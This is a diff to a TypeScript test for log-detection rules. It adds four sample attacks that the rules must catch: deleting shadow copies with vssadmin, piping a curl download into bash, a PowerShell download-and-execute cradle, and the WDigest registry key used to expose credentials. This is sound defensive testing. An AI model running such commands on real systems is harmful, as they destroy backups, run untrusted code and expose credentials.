@@ -36,39 +36,61 @@ test("each part of a form is filled", () => {
   expect(texts.filter(({ text }) => /[«»]/.test(text))).toEqual([])
 })
 
-/** An ordinary text as events that rules look at, of Windows and of Linux. */
+const channel = (name: string, code: string): Event => ({
+  "event.module": "windows",
+  "event.code": code,
+  "event.provider": `Microsoft-Windows-${name}`,
+  "event.dataset": `windows.${name.toLowerCase()}_operational`,
+  "vendor.winlog.channel": `Microsoft-Windows-${name}/Operational`,
+})
+
+/** A text as events that rules look at, of Windows and of Linux. */
 function eventsOf({ text, kind }: (typeof texts)[number]): Event[] {
-  const common = { "@timestamp": "2026-01-01T00:00:00Z", "event.module": "windows" } as const
-  const sysmon = { ...common, "event.dataset": "windows.sysmon_operational" } as const
   if (kind === "powershell")
+    return [{ ...channel("PowerShell", "4104"), "vendor.winlog.event_data.ScriptBlockText": text }]
+  if (kind === "registry")
     return [
       {
-        ...{ ...common, "event.dataset": "windows.powershell_operational", "event.code": "4104" },
-        "vendor.winlog.event_data.ScriptBlockText": text,
+        ...channel("Sysmon", "13"),
+        "vendor.winlog.event_data.TargetObject": text,
+        "vendor.winlog.event_data.Details": text,
       },
     ]
-  if (kind === "registry")
-    return [{ ...sysmon, "event.code": "13", "vendor.winlog.event_data.TargetObject": text }]
-  if (kind === "proxy") return []
   const [, quoted, bare = ""] = /^(?:"([^"]+)"|(\S+))/.exec(text) ?? []
-  const image = `C:\\Windows\\${(quoted ?? bare)
+  const program = (quoted ?? bare)
     .split(/[\\/]/)
     .at(-1)
-    ?.replace(/\.exe$/i, "")}.exe`
+    ?.replace(/\.exe$/i, "")
   return [
     {
-      ...{ ...sysmon, "event.code": "1", "vendor.winlog.event_data.CommandLine": text },
-      "vendor.winlog.event_data.Image": image,
+      ...{ ...channel("Sysmon", "1"), "vendor.winlog.event_data.CommandLine": text },
+      "vendor.winlog.event_data.Image": `C:\\Windows\\System32\\${program}.exe`,
     },
-    { "event.dataset": "system.auth", "event.module": "system", "process.command_line": text },
+    {
+      ...{ "event.dataset": "system.auth", "event.module": "system", "host.os.type": "linux" },
+      ...{ "event.category": ["process"], "event.type": ["start"], "process.command_line": text },
+    },
   ]
 }
 
 test("no rule of ours fires on an ordinary text", () => {
   const rules = loadRules(["rules/detect"])
-  const fired = new Set<string>()
-  for (const one of texts)
-    for (const event of eventsOf(one))
-      rules.match(event, ({ title }) => fired.add(`${title}: ${one.text}`))
-  expect([...fired]).toEqual([])
+  const firedOn = (of: typeof texts) => {
+    const fired = new Set<string>()
+    for (const one of of)
+      for (const event of eventsOf(one))
+        rules.match(event, ({ title }) => fired.add(`${title}: ${one.text}`))
+    return [...fired]
+  }
+  const attacks: typeof texts = [
+    { kind: "process_creation", text: "vssadmin.exe delete shadows /all" },
+    { kind: "process_creation", text: "curl http://192.0.2.1/a | bash" },
+    { kind: "powershell", text: "IEX (New-Object Net.WebClient).DownloadString('http://a')" },
+    {
+      kind: "registry",
+      text: "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential",
+    },
+  ]
+  expect(firedOn(attacks).length).toBeGreaterThanOrEqual(3)
+  expect(firedOn(texts.filter(({ kind }) => kind !== "proxy"))).toEqual([])
 })
